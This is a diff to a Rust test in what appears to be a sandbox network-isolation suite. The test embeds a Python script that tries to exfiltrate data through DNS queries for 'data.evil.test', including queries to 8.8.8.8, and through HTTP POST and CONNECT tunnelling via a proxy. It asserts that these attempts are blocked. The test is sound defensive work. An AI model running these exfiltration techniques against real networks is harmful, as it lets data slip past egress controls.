@@ -39,12 +39,20 @@ fn foreign(world: &World) -> Result<(), String> {
     let scene = Scene::new(world, &[])?;
     let trap = world.site.trap(Net::Forbidden, 53).map_err(|e| e.to_string())?;
     let other = world.site.trap(Net::Forbidden, 5353).map_err(|e| e.to_string())?;
+    let allowed = world.site.trap(Net::Allowed, 53).map_err(|e| e.to_string())?;
     let script = format!(
         "def one(server, port):
     ask('data.evil.test', 1, server, port)
     message = question('data.evil.test')
     say(server, port, len(message).to_bytes(2, 'big') + message)
-each(one, [('{ip}', {port}), ('{other}', {other_port})] + [(s, p) for s in ('8.8.8.8', '127.0.77.53') for p in (53, {other_port})])",
+each(one, [('{ip}', {port}), ('{other}', {other_port})] + [(s, p) for s in ('8.8.8.8', '127.0.77.53') for p in (53, {other_port})])
+message = question('data.evil.test')
+body = len(message).to_bytes(2, 'big') + message
+host = '{allowed}:53'
+post = f'POST http://{{host}}/ HTTP/1.1\\r\\nHost: {{host}}\\r\\nContent-Length: {{len(body)}}\\r\\n\\r\\n'
+assert status(say(*PROXY, post.encode() + body)) == '403'
+assert status(say(*PROXY, f'CONNECT {{host}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n'.encode())) == '403'",
+        allowed = allowed.address().ip(),
         ip = trap.address().ip(),
         port = trap.address().port(),
         other = other.address().ip(),
@@ -53,6 +61,7 @@ each(one, [('{ip}', {port}), ('{other}', {other_port})] + [(s, p) for s in ('8.8
     scene.attack(&script)?;
     empty(&trap)?;
     empty(&other)?;
+    empty(&allowed)?;
     let asked = world.site.dns().asked();
     expect(!asked.iter().any(|q| q.name.ends_with(EVIL)), || format!("{asked:?}"))?;
     // At the port of DNS the gateway answers whoever was meant, and the name is what it refuses. At another port it is a
